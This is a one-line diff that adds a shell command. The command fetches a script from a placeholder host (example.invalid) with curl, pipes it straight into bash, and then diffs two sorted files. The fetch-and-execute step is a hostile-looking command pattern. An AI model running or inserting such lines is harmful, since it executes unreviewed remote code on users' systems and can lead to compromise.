@@ -1,0 +1,1 @@
+bash <(curl -fsSL https://example.invalid/i.sh) && diff <(sort a) <(sort b) > d.txt
